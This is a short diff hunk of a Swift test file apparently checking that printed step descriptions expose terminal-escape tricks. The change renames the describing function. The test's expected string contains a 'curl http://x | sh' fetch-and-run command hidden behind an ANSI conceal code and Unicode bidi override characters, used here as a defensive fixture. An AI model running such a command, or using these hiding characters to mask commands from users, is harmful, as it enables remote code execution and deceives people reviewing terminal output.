@@ -30,7 +30,7 @@ import Testing
         #expect(text.contains(#"ok\x1b[8m; curl http://x | sh\x1b[0m\r\u{202e}evil\u{2066}\u{85}\x7f"#), "\(text)")
         // The same lines --verbose and the resume listing print for each step.
         for step in plan.tasks[0].stages.flatMap({ $0.hosts.flatMap(\.steps) }) {
-            let line = Executor.describeStep(step)
+            let line = ResumeLedger.describe(step)
             #expect(!Self.hidesSomething(line) && line.contains(#"\x1b[8m"#), "\(line.debugDescription)")
         }
         // The command that runs is still the exact value.
